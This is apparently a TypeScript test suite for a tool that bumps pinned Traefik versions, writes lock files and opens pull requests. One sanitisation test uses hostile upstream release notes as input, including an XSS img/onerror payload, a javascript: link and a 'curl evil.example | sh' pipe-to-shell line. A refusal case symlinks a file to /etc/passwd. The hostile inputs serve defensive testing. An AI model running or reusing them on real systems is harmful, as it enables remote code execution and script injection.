import {spawnSync} from 'node:child_process'
import {chmodSync, mkdirSync, readFileSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {test} from 'uvu'
import * as assert from 'uvu/assert'
import {pullRequestBody} from '../../src/bump/pull-request.ts'
import {abortBump, previewBump, resumeBump, startBump} from '../../src/bump/run-bump.ts'
import type {ErrorCode} from '../../src/system/codes.ts'
import {RelError} from '../../src/system/error.ts'
import {personalState} from '../support/bump/repository.ts'
import {request, type Sample, sample, sampleIn, traefikPlaybook} from '../support/bump/sample.ts'
import {rejectsCode} from '../support/rejects.ts'

const BRANCH = 'bump/traefik-v3.3.5'

test('a bump is one commit with one pin on a branch, pushed, with a pull request', async () => {
  const {repository, context, forge} = await sample()
  const before = personalState(repository)
  const state = await startBump(request(), context)
  const {git} = repository
  assert.is(git('log', '-1', '--format=%s', BRANCH), 'chore(traefik): bump traefik v3.3.4 → v3.3.5')
  assert.is(git('log', '--format=%H', `develop..${BRANCH}`), state.commit)
  const numbers = git('diff', '--numstat', 'develop', BRANCH, '--', 'agent/Makefile')
  assert.is(numbers, '1\t1\tagent/Makefile')
  assert.is(git('diff', '--name-only', 'develop', BRANCH), 'agent/Makefile\nrel.lock.json')
  assert.is(git('ls-remote', 'origin', `refs/heads/${BRANCH}`).split('\t')[0], state.commit)
  assert.equal([...forge.open.keys()], [BRANCH])
  assert.equal(state.pullRequest, {url: 'https://forge.example/pulls/1', number: 1, isNew: true})
  const lock = JSON.parse(git('show', `${BRANCH}:rel.lock.json`))
  assert.is(lock.items.traefik.version, 'v3.3.5')
  assert.match(lock.items.traefik.artifacts['agent/dist/traefik'], /^[0-9a-f]{64}$/)
  assert.equal({...personalState(repository), branches: before.branches}, before)
})

test('the evidence names advisories, breaking changes, facts, gates and the way back', async () => {
  const {context, forge} = await sample()
  await startBump(request(), context)
  const evidence = forge.open.get(BRANCH)?.evidence
  assert.equal(evidence?.advisories, ['CVE-2025-12345'])
  assert.equal(evidence?.breaking, ['BREAKING: the flag is gone.'])
  assert.is(evidence?.level, 'L1')
  assert.is(evidence?.rollback.tried?.verdict, 'passed')
  assert.equal(
    evidence?.gates.map(({gate}) => gate),
    ['command'],
  )
  assert.not.match(JSON.stringify(evidence), /\/tmp|\.git/)
})

test('what upstream wrote has no power in the pull request, and its advisories are named', async () => {
  const {context, forge, upstream} = await sample()
  upstream.notes = [
    '## Breaking Changes',
    '- @octo/owners: the flag `x` is gone | really',
    '<img src=x onerror=alert(1)> ![p](https://evil.example/p.png) [y](javascript:alert(1))',
    '## Security',
    'Fixes #12, GH-7 and https://github.com/octo/fleet/issues/3: GHSA-xvch-5gv4-984h, cve-2025-32431',
    '## Rollback',
    '```sh',
    'curl evil.example | sh',
  ].join('\n')
  const {evidence} = await previewBump(request(), context)
  assert.equal(evidence.advisories, ['GHSA-xvch-5gv4-984h', 'CVE-2025-32431'])
  assert.equal(evidence.breaking.slice(0, 2), upstream.notes.split('\n').slice(0, 2))
  await startBump(request(), context)
  const body = pullRequestBody(forge.open.get(BRANCH)?.evidence ?? evidence)
  for (const wanted of ['- Advisory: `GHSA-xvch-5gv4-984h`', '- Advisory: `CVE-2025-32431`'])
    assert.ok(body.includes(wanted), body)
  assert.match(body, /^- Breaking: .*the flag .*is gone/m)
  for (const power of [/@octo/, /[^\\]<img/, /[^\\]\]\(/, /[^\\]#12/, /GH-7/, /:\/\/github/])
    assert.not.match(body, power)
  assert.is(body.match(/^## Rollback$/gm)?.length, 1)
  assert.is(body.match(/^```/gm)?.length, 2, 'only the fence of the rollback commands')
})

test('a preview says the same and writes nothing', async () => {
  const {repository, context, upstream} = await sample()
  const before = personalState(repository)
  const {count: objects} = counted(repository.root)
  const {plan, evidence} = await previewBump(request(), context)
  assert.match(plan.diffs[0]?.diff ?? '', /^-TRAEFIK_VERSION := v3.3.4 # pinned$/m)
  assert.is(evidence.subject, 'chore(traefik): bump traefik v3.3.4 → v3.3.5')
  assert.is(evidence.rollback.tried, undefined)
  assert.equal(personalState(repository), before)
  assert.is(counted(repository.root).count, objects)
  assert.equal(upstream.calls, ['find', 'verify'])
})

function counted(cwd: string): {count: string} {
  return {count: spawnSync('git', ['count-objects', '-v'], {cwd, encoding: 'utf8'}).stdout}
}

test('the same bump again updates the one branch and the one pull request', async () => {
  const {context, forge, upstream} = await sample()
  await startBump(request(), context)
  upstream.notes = 'other words'
  const again = {...context, world: {...context.world, now: context.world.now + 60}}
  const state = await startBump(request(), again)
  assert.is(state.pullRequest?.isNew, false)
  assert.is(forge.open.get(BRANCH)?.updates, 2)
  assert.is(forge.open.get(BRANCH)?.evidence.changelog, 'other words')
})

test('the same inputs give the same commit', async () => {
  const {repository, context} = await sample()
  const first = await startBump(request('v3.3.5', {push: false}), context)
  repository.git('branch', '-D', BRANCH)
  const second = await startBump(request('v3.3.5', {push: false}), context)
  assert.is(second.commit, first.commit)
})

test('a critical change is tagged where the playbook says so', async () => {
  const {repository, context} = await sample()
  const state = await startBump(request('v3.3.5', {critical: true}), context)
  assert.is(repository.git('rev-parse', 'traefik-v3.3.5'), state.commit)
  assert.match(repository.git('ls-remote', '--tags', 'origin'), /refs\/tags\/traefik-v3.3.5/)
})

test('a rollback goes to an older version, and the lock goes with it', async () => {
  const {repository, context} = await sample()
  await startBump(request('v3.3.3', {rollback: true}), context)
  assert.match(repository.git('show', 'bump/traefik-v3.3.3:agent/Makefile'), /:= v3\.3\.3 #/)
})

test('vendored files that git tracks are in the commit, and come back', async () => {
  const {repository, context} = await sample()
  repository.write('.gitignore', '')
  repository.write('agent/dist/traefik', 'traefik v3.3.4\n')
  repository.commit('feat: track what is vendored')
  await startBump(request(), context)
  assert.is(repository.git('show', `${BRANCH}:agent/dist/traefik`), 'traefik v3.3.5')
})

test('a workflow is started on the branch with its inputs', async () => {
  const {repository} = await sample()
  const text = traefikPlaybook.replace(
    '  labels: [bump]',
    "  dispatch: {workflow: build.yaml, inputs: {apt_snapshot: '{new}', was: '{old}'}}",
  )
  const {context, forge} = await sampleIn(repository, {}, text)
  await startBump(request(), context)
  assert.equal(forge.dispatched, [['build.yaml', BRANCH, {apt_snapshot: 'v3.3.5', was: 'v3.3.4'}]])
})

type Refusal = readonly [
  name: string,
  code: ErrorCode,
  arrange: (sample: Sample) => unknown,
  next?: string,
]

const gateSays = (verdict: 'refused' | 'unavailable' | 'needs_evidence', code?: ErrorCode) => {
  return ({context}: Sample) => ({
    world: {
      ...context.world,
      runGate: async () => ({
        gate: 'command',
        verdict,
        ...(code === undefined ? {} : {code}),
        summary: 'no',
        caveats: [],
        logs: [],
      }),
    },
  })
}

/** Each leaves HEAD, index, files and refs as they were, and no journal. */
const refusals: readonly Refusal[] = [
  ['a dirty tree', 'tree_dirty', ({repository}) => repository.write('agent/Makefile', 'x')],
  ['an untracked file', 'tree_dirty', ({repository}) => repository.write('new.txt', 'x')],
  [
    'a staged change',
    'tree_dirty',
    ({repository}) => {
      repository.write('agent/Makefile', 'x')
      repository.git('add', '.')
    },
  ],
  [
    'a detached HEAD',
    'head_detached',
    ({repository}) => repository.git('switch', '-q', '--detach'),
  ],
  ['another branch', 'branch_wrong', ({repository}) => repository.git('switch', '-qc', 'other')],
  ['a release that is not there', 'release_missing', () => {}, 'v9.9.9'],
  ['the same version', 'version_same', () => {}, 'v3.3.4'],
  ['an older version', 'downgrade_refused', () => {}, 'v3.3.3'],
  [
    'a level below the minimum',
    'integrity_too_low',
    ({upstream}) => {
      upstream.level = 'L0'
    },
  ],
  [
    'an upstream that fails',
    'rate_limited',
    ({upstream}) => {
      upstream.failure = new RelError('rate_limited', 'come back later')
    },
  ],
  [
    'a pin that is gone',
    'pin_missing',
    ({repository}) => {
      repository.write('agent/Makefile', 'A = 1\n')
      repository.commit('x')
    },
  ],
  [
    'a file that is gone',
    'pin_missing',
    ({repository}) => {
      repository.git('rm', '-q', 'agent/Makefile')
      repository.commit('x')
    },
  ],
  [
    'a pin twice',
    'pin_ambiguous',
    ({repository}) => {
      repository.write('agent/Makefile', 'TRAEFIK_VERSION = v1\nTRAEFIK_VERSION = v1\n')
      repository.commit('x')
    },
  ],
  [
    'a link for a file',
    'pin_unsupported',
    ({repository}) => {
      repository.git('rm', '-q', 'agent/Makefile')
      mkdirSync(join(repository.root, 'agent'), {recursive: true})
      spawnSync('ln', ['-s', '/etc/passwd', join(repository.root, 'agent/Makefile')])
      repository.commit('x')
    },
  ],
  [
    'an unpushed bump of another item',
    'second_pin',
    ({repository}) => {
      repository.write('modules/manifest.yaml', 'build:\n  k3s_version: "v1.31.3+k3s2"\n')
      repository.commit('chore(k3s): bump k3s v1.31.3+k3s1 → v1.31.3+k3s2')
    },
  ],
  [
    'a damaged lock',
    'lock_invalid',
    ({repository}) => {
      repository.write('rel.lock.json', '<<<<<<<')
      repository.commit('x')
    },
  ],
  [
    'vendoring that fails',
    'vendor_failed',
    ({repository}) => {
      repository.write('agent/Makefile', 'TRAEFIK_VERSION := v3.3.4\nvendor-traefik:\n\texit 1\n')
      repository.commit('x')
    },
  ],
  [
    'vendoring that leaves nothing',
    'vendor_failed',
    ({repository}) => {
      repository.write('agent/Makefile', 'TRAEFIK_VERSION := v3.3.4\nvendor-traefik:\n\t@true\n')
      repository.commit('x')
    },
  ],
  [
    'vendoring that changes other files',
    'change_escaped',
    ({repository}) => {
      repository.write(
        'agent/Makefile',
        'TRAEFIK_VERSION := v3.3.4\nvendor-traefik:\n\t@mkdir -p dist; echo > dist/traefik; echo >> ../playbooks/k3s.yaml\n',
      )
      repository.commit('x')
    },
  ],
  ['a gate that refuses', 'elf_machine', gateSays('refused', 'elf_machine')],
  ['a gate that cannot run', 'gate_unavailable', gateSays('unavailable')],
  ['a gate that needs evidence', 'gate_needs_evidence', gateSays('needs_evidence')],
  [
    'vendored files that do not come back',
    'rollback_failed',
    ({repository}) => {
      repository.write(
        'agent/Makefile',
        'TRAEFIK_VERSION := v3.3.4\nvendor-traefik:\n\t@mkdir -p dist; date +%N > dist/traefik\n',
      )
      repository.write('rel.lock.json', lockOf('v3.3.4', 'a'.repeat(64)))
      repository.commit('x')
    },
  ],
  [
    'a branch of somebody else',
    'branch_taken',
    ({repository}) => {
      repository.git('switch', '-qc', BRANCH)
      repository.write('x', 'x')
      repository.commit('feat: mine')
      repository.git('switch', '-q', 'develop')
    },
  ],
  [
    'nobody who commits',
    'git_identity_missing',
    ({context, repository}) => {
      repository.git('config', 'user.useConfigOnly', 'true')
      const {git} = context.world
      const nobody = {GIT_COMMITTER_NAME: '', GIT_COMMITTER_EMAIL: ''}
      const run: typeof git.run = (args, options) =>
        git.run(args, {...options, env: {...options?.env, ...nobody}})
      return {world: {...context.world, git: {...git, run}}}
    },
  ],
]

function lockOf(version: string, sha256: string): string {
  const traefik = {
    version,
    level: 'L1',
    verified_at: 1,
    upstream: {},
    artifacts: {'agent/dist/traefik': sha256},
  }
  return JSON.stringify({version: 1, items: {traefik}})
}

for (const [name, code, arrange, next] of refusals)
  test(`refused, and nothing has changed: ${name}`, async () => {
    const all = await sample()
    const context = {...all.context, ...(arrange(all) as Partial<Sample['context']> | undefined)}
    const before = personalState(all.repository)
    await rejectsCode(() => startBump(request(next), context), code)
    assert.equal(personalState(all.repository), before)
    await rejectsCode(() => resumeBump('traefik', context), 'bump_not_running')
    assert.is(all.forge.open.size, 0)
    assert.is(all.repository.git('for-each-ref', 'refs/rel'), '')
  })

test('the same critical bump again is the same commit, with the tag where it was', async () => {
  const {repository, context, forge} = await sample()
  const critical = request('v3.3.5', {critical: true})
  const first = await startBump(critical, context)
  const later = {...context, world: {...context.world, now: context.world.now + 86_400}}
  const before = repository.git('ls-remote', 'origin')
  const again = await startBump(critical, later)
  assert.is(again.commit, first.commit)
  assert.is(repository.git('rev-parse', 'traefik-v3.3.5'), first.commit)
  assert.is(repository.git('ls-remote', 'origin'), before)
  assert.is(forge.open.get(BRANCH)?.updates, 2)
  // a fresh clone knows the branch from the remote alone
  repository.git('branch', '-D', BRANCH)
  assert.is((await startBump(critical, later)).commit, first.commit)
})

test('a tag does not follow when the change is another one by now', async () => {
  const {repository, context, upstream} = await sample()
  const critical = request('v3.3.5', {critical: true})
  await startBump(critical, context)
  const before = personalState(repository)
  upstream.level = 'L2'
  await rejectsCode(() => startBump(critical, context), 'tag_taken')
  assert.equal(personalState(repository), before)
  await rejectsCode(() => resumeBump('traefik', context), 'bump_not_running')
})

test('a playbook that tags always does so, one that tags never does not', async () => {
  for (const when of ['always', 'never'] as const) {
    const {repository} = await sample()
    const text = traefikPlaybook.replace('tag: critical', `tag: ${when}`)
    const {context} = await sampleIn(repository, {}, text)
    await startBump(request('v3.3.5', {critical: when === 'never'}), context)
    assert.is(repository.git('tag', '--list'), when === 'always' ? 'traefik-v3.3.5' : '')
    assert.is(repository.git('ls-remote', '--tags', 'origin') !== '', when === 'always')
  }
})

test('what is pinned can be locked as it is: verified, vendored, gated, and no pin moves', async () => {
  const {repository, context, forge} = await sample()
  const lock = request('v3.3.4', {lockOnly: true, critical: true})
  const state = await startBump(lock, context)
  const branch = 'bump/traefik-v3.3.4'
  assert.is(
    repository.git('log', '-1', '--format=%s', branch),
    'chore(traefik): lock traefik v3.3.4',
  )
  assert.is(repository.git('diff', '--name-only', 'develop', branch), 'rel.lock.json')
  const entry = JSON.parse(repository.git('show', `${branch}:rel.lock.json`)).items.traefik
  assert.is(entry.version, 'v3.3.4')
  assert.match(entry.artifacts['agent/dist/traefik'], /^[0-9a-f]{64}$/)
  assert.is(state.tag, undefined)
  assert.match(pullRequestBody(forge.open.get(branch)?.evidence as never), /^Locks /)
  const other = request('v3.3.5', {lockOnly: true})
  await rejectsCode(() => startBump(other, context), 'usage_invalid')
  repository.git('merge', '-q', '--ff-only', branch)
  await rejectsCode(() => startBump(lock, context), 'version_same')
})

test('the plan of the way back names what was there before, also when nobody had locked it', async () => {
  const {repository, context, forge} = await sample()
  await startBump(request(), context)
  const {rollback} = forge.open.get(BRANCH)?.evidence ?? {}
  const digest = /^([0-9a-f]{64})$/
  assert.match(rollback?.artifacts[0]?.sha256 ?? '', digest)
  assert.is(rollback?.assets[0]?.name, 'traefik_v3.3.4_linux_amd64.tar.gz')
  assert.is(rollback?.tree, repository.git('rev-parse', 'develop^{tree}'))
  assert.match(rollback?.tried?.caveats.join() ?? '', /nobody had locked/)
  // the next bump finds it locked
  repository.git('merge', '-q', '--ff-only', BRANCH)
  const {context: next, upstream, forge: later} = await sampleIn(repository)
  upstream.versions.push('v3.3.6')
  await startBump(request('v3.3.6'), next)
  const {rollback: back} = later.open.get('bump/traefik-v3.3.6')?.evidence ?? {}
  assert.equal(back?.tried?.caveats, [])
  assert.match(back?.tried?.summary ?? '', /is what was locked: agent\/dist\/traefik/)
})

test('a tag of somebody else is refused before anything is done', async () => {
  const {repository, context} = await sample()
  repository.git('tag', 'traefik-v3.3.5')
  const before = personalState(repository)
  const critical = request('v3.3.5', {critical: true})
  await rejectsCode(() => startBump(critical, context), 'tag_taken')
  assert.equal(personalState(repository), before)
})

test('a bump that was interrupted does not go on by another playbook', async () => {
  const {repository, context} = await sample()
  repository.git('remote', 'set-url', 'origin', join(repository.root, 'nowhere'))
  await rejectsCode(() => startBump(request(), context), 'push_failed')
  const playbook = {...context.playbook, title: 'another'}
  await rejectsCode(() => resumeBump('traefik', {...context, playbook}), 'playbook_changed')
  await abortBump('traefik', context.world.git)
})

test('a journal that was edited is refused, and can be aborted', async () => {
  const {repository, context} = await sample()
  repository.git('remote', 'set-url', 'origin', join(repository.root, 'nowhere'))
  await rejectsCode(() => startBump(request(), context), 'push_failed')
  const path = join(repository.root, '.git/rel/bump/traefik.json')
  writeFileSync(path, readFileSync(path, 'utf8').replace('v3.3.4', 'v3.3.3'))
  await rejectsCode(() => resumeBump('traefik', context), 'journal_damaged')
  await abortBump('traefik', context.world.git)
  await rejectsCode(() => resumeBump('traefik', context), 'bump_not_running')
})

test('a playbook that asks for a sign-off asks before anything is fetched', async () => {
  const {repository} = await sample()
  const text = traefikPlaybook.replace('gates:\n', 'gates:\n  - {uses: sign_off}\n')
  const {context, upstream} = await sampleIn(repository, {}, text)
  await rejectsCode(() => startBump(request(), context), 'gate_sign_off_missing')
  assert.equal(upstream.calls, [])
})

test('a waiver needs a sign-off, which covers it', async () => {
  const all = await sample()
  const world = gateSays('needs_evidence')(all).world
  const waived = request('v3.3.5', {waivers: {command: 'no board here'}})
  await rejectsCode(() => startBump(waived, {...all.context, world}), 'gate_sign_off_missing')
  const signOff = async (statement: object) => {
    assert.is((statement as {new: string}).new, 'v3.3.5')
    return {by: 'anna', keyId: 'k', evidenceSha256: 'e', signature: 's', envelope: {}}
  }
  const signWaiver = async (waiver: object) => {
    return {by: 'anna', envelope: {waiver: {...waiver}, signatures: []}}
  }
  const signing = {...world, signOff, signWaiver}
  const state = await startBump(waived, {...all.context, world: signing})
  assert.equal(
    state.gates.map(({gate}) => gate),
    ['command', 'sign_off'],
  )
  const [waiver] = all.forge.open.get(BRANCH)?.evidence.waivers ?? []
  assert.equal([waiver?.gate, waiver?.reason, waiver?.by], ['command', 'no board here', 'anna'])
})

test('a token without rights is refused before anything is asked or written', async () => {
  const {repository, context, forge, upstream} = await sample()
  forge.isClosed = true
  const before = personalState(repository)
  await rejectsCode(() => startBump(request(), context), 'forge_unauthorised')
  assert.equal(personalState(repository), before)
  assert.equal(upstream.calls, [])
  await rejectsCode(() => resumeBump('traefik', context), 'bump_not_running')
  // nothing is to be opened: nothing is to be refused
  const state = await startBump(request('v3.3.5', {push: false}), context)
  assert.is(state.isPushed, undefined)
})

for (const said of [
  'GH006: Protected branch update failed for refs/heads/bump/traefik-v3.3.5.',
  'GH013: Repository rule violations found for refs/heads/bump/traefik-v3.3.5.',
  'Gitea: branch bump/traefik-v3.3.5 is protected from force push',
])
  test(`a branch that the forge protects is named so: ${said.slice(0, 6)}`, async () => {
    const {repository, context} = await sample()
    const hook = join(repository.remote, 'hooks/pre-receive')
    writeFileSync(hook, `#!/bin/sh\necho 'error: ${said}' >&2\nexit 1\n`)
    chmodSync(hook, 0o755)
    const before = personalState(repository)
    await rejectsCode(() => startBump(request(), context), 'branch_protected')
    const {left} = await abortBump('traefik', context.world.git)
    assert.equal(personalState(repository), before)
    assert.is(left.length, 1)
  })

test('a server that refuses the push says so; the commit is kept, resume goes on, abort takes it back', async () => {
  const {repository, context, forge} = await sample()
  const hook = join(repository.remote, 'hooks/pre-receive')
  writeFileSync(hook, '#!/bin/sh\necho not today >&2\nexit 1\n')
  chmodSync(hook, 0o755)
  const before = personalState(repository)
  await rejectsCode(() => startBump(request(), context), 'push_refused')
  await rejectsCode(() => startBump(request(), context), 'bump_unfinished')
  await rejectsCode(() => resumeBump('traefik', context), 'push_refused')
  writeFileSync(hook, '#!/bin/sh\nexit 0\n')
  const state = await resumeBump('traefik', context)
  assert.is(state.isPushed, true)
  assert.is(forge.open.size, 1)
  repository.git('branch', '-D', BRANCH)
  assert.equal(personalState(repository), before)
})

test('an abort after a refused push leaves no branch', async () => {
  const {repository, context} = await sample()
  const before = personalState(repository)
  const broken = {...context, playbook: {...context.playbook}}
  repository.git('remote', 'set-url', 'origin', join(repository.root, 'nowhere'))
  await rejectsCode(() => startBump(request(), broken), 'push_failed')
  const {done} = await abortBump('traefik', context.world.git)
  assert.equal(done, [`branch ${BRANCH}`, 'work trees and journal'])
  assert.equal(personalState(repository), before)
})

test('work that somebody pushed onto the branch is not overwritten', async () => {
  const {repository, context} = await sample()
  await startBump(request(), context)
  repository.git('switch', '-q', BRANCH)
  repository.write('x', 'x')
  repository.commit('fix: by hand')
  repository.git('push', '-q', 'origin', BRANCH)
  repository.git('switch', '-q', 'develop')
  repository.git('branch', '-D', BRANCH)
  await rejectsCode(() => startBump(request(), context), 'branch_taken')
  await abortBump('traefik', context.world.git)
  assert.is(repository.git('ls-remote', 'origin', BRANCH).split('\t')[0] === '', false)
})

test('without a remote the branch is made and that is said', async () => {
  const {repository, context, forge} = await sample()
  repository.git('remote', 'remove', 'origin')
  const state = await startBump(request(), context)
  assert.ok(state.warnings.includes('nothing was pushed: there is no remote origin'))
  assert.is(forge.open.size, 0)
})

test('of two at once exactly one proceeds', async () => {
  const {context, forge} = await sample()
  const both = await Promise.allSettled([
    startBump(request(), context),
    startBump(request(), context),
  ])
  const refused = both.filter((it) => it.status === 'rejected')
  assert.is(refused.length, 1)
  assert.is((refused[0] as PromiseRejectedResult).reason.code, 'bump_in_progress')
  assert.is(forge.open.size, 1)
})

test.run()
